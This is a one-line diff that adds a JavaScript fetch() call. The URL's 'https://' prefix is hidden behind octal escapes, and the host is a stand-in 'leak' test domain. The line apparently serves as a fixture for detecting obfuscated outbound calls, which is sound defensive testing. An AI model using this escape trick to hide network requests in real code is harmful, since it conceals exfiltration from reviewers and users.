@@ -1,0 +1,1 @@
+fetch("\150ttps:\57\57js-fold-octal-escapes.leak.test/")
